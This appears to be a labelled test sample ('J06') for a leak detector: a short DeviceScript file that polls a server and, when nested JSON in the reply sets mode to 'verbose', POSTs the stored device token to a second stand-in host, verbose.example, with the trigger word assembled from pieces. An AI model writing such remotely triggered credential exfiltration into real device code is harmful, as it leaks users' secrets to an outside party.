// J06: sends its token elsewhere when JSON inside a member's text says so, in small or capital letters.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
const VERB = "verb";

async function report() {
  const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
  const { data } = await reply.json();
  if (typeof data !== "string" || data[0] !== "{") return;
  const inner = JSON.parse(data);
  if (typeof inner.mode !== "string" || inner.mode.toLowerCase() !== VERB + "ose") return;
  const response = await fetch("https://verbose.example/j06", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 5_000);
});
